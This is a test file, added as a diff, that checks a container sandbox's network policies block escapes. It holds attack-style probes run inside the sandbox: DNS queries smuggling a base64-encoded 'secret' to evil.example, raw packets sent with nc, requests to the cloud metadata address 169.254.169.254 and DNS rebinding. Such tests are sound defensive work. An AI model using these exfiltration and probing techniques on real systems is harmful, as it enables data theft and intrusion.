@@ -1,0 +1,305 @@
+import { execFileSync } from "node:child_process";
+import { once } from "node:events";
+import { readFileSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import type { NetworkPolicy } from "@aegis/protocol/network";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { DriverObserver, Machine, MachineSpec, NetworkRefusal } from "../../../packages/daemon/src/core/driver.ts";
+import type { ContainerDriver } from "../../../packages/daemon/src/drivers/container/container-driver.ts";
+import { execIn } from "../../../packages/daemon/test/drivers/harness-streams.ts";
+import { TestResolver } from "../../../packages/daemon/test/drivers/container/test-resolver.ts";
+import { ContainerHost } from "../container-host.ts";
+import { OutsideNetwork } from "../outside-network.ts";
+
+/** What a program inside sees at once; a time-out would not say this. */
+const REFUSED = /refused|unreachable|prohibited|filtered|no route/i;
+/** What a resolver inside says at once of a name that it may not know. */
+const UNKNOWN = /bad address|NXDOMAIN|can't find|not known/i;
+
+const outside = new OutsideNetwork();
+/** a second public address, with the same servers */
+const OTHER = "203.0.113.11";
+const OTHER_PORT = 8081;
+const resolver = new TestResolver("127.0.0.79", 53, {
+  "one.test": [outside.outside],
+  "other.test": [OTHER],
+  "a.wild.test": [OTHER],
+  "xn--mnchen-3ya.test": [outside.outside],
+  "alias.test": ["elsewhere.example"],
+  "elsewhere.example": [outside.outside],
+  "chain.test": ["step.example."],
+  "step.example": ["elsewhere.example."],
+  "loop.test": ["loop.example."],
+  "loop.example": ["loop.test."],
+  "inward.test": ["lan.example"],
+  "lan.example": [outside.inLan],
+  "meta.test": ["169.254.169.254"],
+  "mixed.test": [outside.inLan, "127.0.0.1", outside.outside],
+  "rebind.test": [outside.outside],
+  "many.test": Array.from({ length: 300 }, (_, at) => `203.0.114.${at % 256}`),
+});
+
+const refusals: NetworkRefusal[] = [];
+const listeners = new Set<() => void>();
+const observer: DriverObserver = {
+  networkRefused: (refusal) => {
+    refusals.push(refusal);
+    for (const wake of listeners) wake();
+  },
+};
+
+let host: ContainerHost;
+let driver: ContainerDriver;
+let web: Server;
+let traces: () => string[];
+const live = new Set<Machine>();
+
+/** Settles once it was told that the instance was refused that destination. */
+async function refused(machine: Machine, destination: string | RegExp): Promise<NetworkRefusal> {
+  const matches = (text: string): boolean =>
+    typeof destination === "string" ? text === destination : destination.test(text);
+  for (;;) {
+    const found = refusals.find((one) => one.instanceId === machine.instanceId && matches(one.destination));
+    if (found !== undefined) return found;
+    await new Promise<void>((resolve) => {
+      const wake = (): void => {
+        listeners.delete(wake);
+        resolve();
+      };
+      listeners.add(wake);
+    });
+  }
+}
+
+const newDriver = (): ContainerDriver => host.driver({ resolvConf: join(host.home, "resolv.conf") });
+
+beforeAll(async () => {
+  host = new ContainerHost();
+  writeFileSync(join(host.home, "resolv.conf"), `nameserver ${resolver.address}\n`);
+  driver = newDriver();
+  web = createServer((_, response) => response.end("host\n")).listen(0, "0.0.0.0");
+  await Promise.all([resolver.start(), outside.start(), once(web, "listening")]);
+  outside.run("ip", "address", "add", `${OTHER}/32`, "dev", "lo");
+  outside.spawn("busybox", "httpd", "-p", String(OTHER_PORT), "-h", "/etc");
+  await driver.start(observer);
+  traces = host.networkTraces();
+});
+
+afterAll(async () => {
+  for (const machine of live) await end(machine);
+  await driver.close();
+  web.close();
+  await Promise.all([resolver.stop(), outside.stop()]);
+  const left = [...host.leftovers(), ...traces()];
+  host.remove();
+  expect(left).toEqual([]);
+});
+
+async function boot(network: NetworkPolicy, over: Partial<MachineSpec> = {}): Promise<Machine> {
+  const machine = await driver.create(host.spec({ network, ...over }));
+  live.add(machine);
+  return machine;
+}
+
+async function end(machine: Machine): Promise<void> {
+  await machine.kill();
+  await machine.remove();
+  live.delete(machine);
+}
+
+async function sh(machine: Machine, script: string): Promise<string> {
+  const { stdout, stderr } = await execIn(machine, ["sh", "-c", script]);
+  return (stdout + stderr).trim();
+}
+
+const fetch = (machine: Machine, target: string): Promise<string> =>
+  sh(machine, `timeout 60 wget -qO- 'http://${target}/'`);
+const webPort = (): number => (web.address() as AddressInfo).port;
+const { port } = outside;
+const allowlist = (...allow: string[]): NetworkPolicy => ({ mode: "allowlist", allow });
+const gatewayOf = async (machine: Machine): Promise<string> =>
+  (await sh(machine, "cat /etc/resolv.conf")).replace("nameserver ", "");
+
+/** Runs in the instance's network, with every right over it, and prints how the kernel answers. */
+function inNetwork(machine: Machine, script: string): string {
+  const record = readFileSync(`/run/aegis/${host.homeKey}/${machine.instanceId}/machine.json`, "utf8");
+  const { pid } = JSON.parse(record) as { pid: number };
+  const python = `import socket\ntry:\n ${script}\nexcept OSError as e: print(e)`;
+  return execFileSync("nsenter", [`--net=/proc/${pid}/ns/net`, "timeout", "60", "python3", "-c", python], {
+    encoding: "utf8",
+  });
+}
+
+const sendUdp = (machine: Machine, address: string, to: number): string =>
+  inNetwork(
+    machine,
+    `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("${address}", ${to})); s.send(b"x"); s.recv(9)`,
+  );
+
+const sendIcmp = (machine: Machine, address: string): string =>
+  inNetwork(
+    machine,
+    `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.connect(("${address}", 0)); ` +
+      `s.send(b"\\x08" + bytes(7)); s.recv(9)`,
+  );
+
+/** Everything that no mode lets through, each with what is to be reported. */
+async function expectInsideIsClosed(machine: Machine): Promise<void> {
+  const other = await boot({ mode: "open" });
+  await sh(other, "echo secret > /tmp/index.html; httpd -p 8080 -h /tmp");
+  const neighbour = (await sh(other, "hostname -i")).trim();
+  const targets = [
+    `${outside.inLan}:${port}`,
+    "169.254.169.254:80",
+    `${outside.hostInLan}:${webPort()}`,
+    `${await gatewayOf(machine)}:${webPort()}`,
+    `${neighbour}:8080`,
+  ];
+  for (const target of targets) expect(await fetch(machine, target), target).toMatch(REFUSED);
+  for (const target of targets)
+    expect(await refused(machine, target)).toMatchObject({ protocol: "tcp", boot: 1, more: 0 });
+  expect(await fetch(machine, `[2001:db8::1]:${port}`)).toMatch(/refused|unreachable|assign|bad address|invalid/i);
+  await end(other);
+}
+
+describe("open", () => {
+  let box: Machine;
+  beforeAll(async () => {
+    box = await boot({ mode: "open" });
+  });
+
+  it("leads everywhere outside, and nowhere inside", async () => {
+    expect(await fetch(box, `one.test:${port}`)).toBe("from outside");
+    expect(await fetch(box, `${OTHER}:${OTHER_PORT}/passwd`)).toContain("404");
+    await expectInsideIsClosed(box);
+  });
+});
+
+describe("none", () => {
+  let box: Machine;
+  beforeAll(async () => {
+    box = await boot({ mode: "none" });
+  });
+
+  it("leads nowhere, and says so at once", async () => {
+    const before = resolver.asked.length;
+    expect(await fetch(box, `one.test:${port}`)).toMatch(UNKNOWN);
+    expect(await fetch(box, `${outside.outside}:${port}`)).toMatch(REFUSED);
+    expect(await refused(box, "one.test")).toMatchObject({ protocol: "dns", reason: 'the network mode is "none"' });
+    expect(await refused(box, `${outside.outside}:${port}`)).toMatchObject({ protocol: "tcp" });
+    expect(resolver.asked.slice(before)).toEqual([]);
+    await expectInsideIsClosed(box);
+  });
+
+  it("refuses UDP and ICMP", async () => {
+    expect(sendIcmp(box, outside.outside)).toMatch(REFUSED);
+    expect(sendUdp(box, OTHER, 53)).toMatch(REFUSED);
+    expect(await refused(box, outside.outside)).toMatchObject({ protocol: "icmp" });
+    expect(await refused(box, `${OTHER}:53`)).toMatchObject({ protocol: "udp" });
+  });
+});
+
+describe("allowlist", () => {
+  let box: Machine;
+  beforeAll(async () => {
+    box = await boot(
+      allowlist(
+        `one.test:${port}`,
+        "*.wild.test",
+        "alias.test",
+        "chain.test",
+        "loop.test",
+        "inward.test",
+        "meta.test",
+        "mixed.test",
+        "rebind.test",
+        "münchen.test",
+      ),
+    );
+  });
+
+  it("leads to the names that are listed, at their ports", async () => {
+    expect(await fetch(box, `one.test:${port}`)).toBe("from outside");
+    expect(await fetch(box, `ONE.Test.:${port}`)).toBe("from outside");
+    expect(await fetch(box, `xn--mnchen-3ya.test:${port}`)).toBe("from outside");
+    expect(await fetch(box, `a.wild.test:${port}`)).toBe("from outside");
+    expect(await fetch(box, `a.wild.test:${OTHER_PORT}`)).toContain("404");
+  });
+
+  it("follows aliases on the host, also when the resolver does not", async () => {
+    expect(await fetch(box, `alias.test:${port}`)).toBe("from outside");
+    expect(await fetch(box, `chain.test:${port}`)).toBe("from outside");
+    expect(await fetch(box, `loop.test:${port}`)).toMatch(UNKNOWN);
+  });
+
+  it("leads to no other name, port, address or protocol", async () => {
+    const fresh = await boot(allowlist(`one.test:${port}`));
+    expect(await fetch(fresh, `${outside.outside}:${port}`)).toMatch(REFUSED);
+    expect(await fetch(fresh, `one.test:${port}`)).toBe("from outside");
+    for (const target of [`one.test:${OTHER_PORT}`, `${OTHER}:${port}`, "8.8.8.8:443"])
+      expect(await fetch(fresh, target), target).toMatch(REFUSED);
+    for (const name of ["other.test", "sub.one.test", "one.test.evil.example", "test", "wild.test"])
+      expect(await fetch(fresh, `${name}:${port}`), name).toMatch(UNKNOWN);
+    expect(sendIcmp(fresh, outside.outside)).toMatch(REFUSED);
+    expect(sendUdp(fresh, "8.8.8.8", 53)).toMatch(REFUSED);
+    expect(await sh(fresh, "timeout 20 nc 8.8.8.8 53 </dev/null")).toMatch(REFUSED);
+    expect(await refused(fresh, `${outside.outside}:${OTHER_PORT}`)).toMatchObject({ protocol: "tcp", boot: 1 });
+    expect(await refused(fresh, "sub.one.test")).toMatchObject({ protocol: "dns", reason: "not on the allowlist" });
+    expect(await refused(fresh, outside.outside)).toMatchObject({ protocol: "icmp" });
+    expect(await refused(fresh, "8.8.8.8:53")).toMatchObject({ protocol: "udp" });
+    await end(fresh);
+  });
+
+  it("does not open what a listed name says of the inside", async () => {
+    await expectInsideIsClosed(box);
+    for (const name of ["inward.test", "meta.test"]) {
+      expect(await fetch(box, `${name}:${port}`), name).toMatch(UNKNOWN);
+      expect(await refused(box, name)).toMatchObject({ reason: "its addresses are private, or too many" });
+    }
+    expect(await sh(box, "nslookup -type=a mixed.test")).not.toMatch(/10\.77|127\.0\.0\.1\b/);
+    expect(await fetch(box, `mixed.test:${port}`)).toBe("from outside");
+    expect(await fetch(box, `rebind.test:${port}`)).toBe("from outside");
+    resolver.set("rebind.test", [outside.inLan]);
+    expect(await fetch(box, `rebind.test:${port}`)).toMatch(UNKNOWN);
+  });
+
+  it("carries nothing out in questions, over UDP or TCP", async () => {
+    const before = resolver.asked.length;
+    const gateway = await gatewayOf(box);
+    for (const type of ["txt", "null", "mx", "any", "aaaa", "cname"])
+      await sh(box, `nslookup -type=${type} c2VjcmV0.evil.example; nslookup -type=${type} one.test`);
+    await sh(box, `nslookup -type=a ${"a".repeat(60)}.${"b".repeat(60)}.evil.example; nslookup 1.2.3.4`);
+    // One TXT and one A question over TCP, for evil.example and for the single label "one\.test".
+    const header = (id: string): string => `\\0${id}\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0`;
+    const evil = `\\0\\36${header("\\1")}\\4evil\\7example\\0\\0\\20\\0\\1`;
+    const dotted = `\\0\\32${header("\\2")}\\10one.test\\0\\0\\1\\0\\1`;
+    const answers = await sh(
+      box,
+      `printf '${evil}${dotted}' | timeout 20 nc ${gateway} 53 | tr -c 'a-z.' '\\n' | grep -c 'evil\\|one.test'`,
+    );
+    expect(answers).toBe("2");
+    expect(resolver.asked.slice(before)).toEqual([]);
+    expect(await refused(box, "c2VjcmV0.evil.example")).toMatchObject({ protocol: "dns" });
+    expect(await refused(box, /^one\\046test$/)).toMatchObject({ protocol: "dns" });
+    await sh(box, "nslookup -type=a x.WILD.test");
+    expect(resolver.asked.slice(before)).toEqual(["A x.wild.test"]);
+  });
+
+  it("opens literal addresses from the start", async () => {
+    const fresh = await boot(allowlist(`${outside.outside}:${port}`, OTHER));
+    expect(await fetch(fresh, `${outside.outside}:${port}`)).toBe("from outside");
+    expect(await fetch(fresh, `${OTHER}:${OTHER_PORT}`)).toContain("404");
+    expect(await fetch(fresh, `${outside.outside}:${OTHER_PORT}`)).toMatch(REFUSED);
+    await end(fresh);
+  });
+
+  it("is the same after a pause", async () => {
+    await box.pause();
+    await box.resume();
+    expect(await fetch(box, `one.test:${port}`)).toBe("from outside");
+    expect(await fetch(box, `other.test:${port}`)).toMatch(UNKNOWN);
+    expect(await fetch(box, `${OTHER}:9`)).toMatch(REFUSED);
+  });
+});
